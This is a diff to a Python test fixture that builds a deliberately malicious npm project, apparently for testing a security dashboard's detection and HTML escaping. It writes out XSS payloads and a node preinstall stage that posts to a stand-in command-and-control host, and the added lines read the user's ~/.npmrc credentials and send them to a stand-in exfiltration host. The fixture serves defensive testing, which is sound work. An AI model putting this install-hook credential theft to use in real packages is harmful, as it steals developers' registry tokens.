@@ -1,7 +1,7 @@
 """A small malicious npm project for the dashboard tests, built without the registry.
 
 Its one dependency's preinstall hook runs wget (a second stage, as in examples/falco-test) and
-a node script that posts to a command-and-control name. Every string an attacker controls —
+a node script that posts to a command-and-control name and sends the planted ~/.npmrc away. Every string an attacker controls —
 the URL in the command line, the request path, the payload — carries HTML and script, so the
 pages that show them are tested for escaping by a real scan, not a hand-made result.
 """
@@ -14,12 +14,18 @@ from pathlib import Path
 XSS_URL = "http://dl.attacker.example/<img src=x onerror=document.title='xss-url'>"
 XSS_PAYLOAD = "<script>document.title='xss-payload'</script><img src=x onerror=\"document.title='xss-img'\">"
 C2_HOST = "c2.attacker.example"
+EXFIL_HOST = "collect.attacker.example"
 
 STAGE_JS = f"""\
 const http = require('http');
 const req = http.request({{host: '{C2_HOST}', path: '/collect', method: 'POST'}});
 req.on('error', () => {{}});
 req.end({json.dumps(XSS_PAYLOAD)});
+let npmrc = '';
+try {{ npmrc = require('fs').readFileSync(require('os').homedir() + '/.npmrc', 'utf8'); }} catch (e) {{}}
+const steal = http.request({{host: '{EXFIL_HOST}', path: '/t', method: 'POST'}});
+steal.on('error', () => {{}});
+steal.end(npmrc);
 setTimeout(() => process.exit(0), 1500);
 """
 
